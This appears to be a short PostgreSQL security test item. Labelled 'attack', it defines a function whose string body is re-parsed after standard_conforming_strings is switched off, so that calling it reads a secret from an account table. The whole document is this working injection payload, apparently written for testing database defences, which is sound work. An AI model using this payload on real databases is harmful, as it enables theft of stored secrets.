-- Has a body read under other settings than those it was made under.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE sql
  AS $f$ SELECT 'a\' || ' || (SELECT secret FROM vlt_account LIMIT 1) -- ' $f$;
SET standard_conforming_strings = off;
SELECT peek();
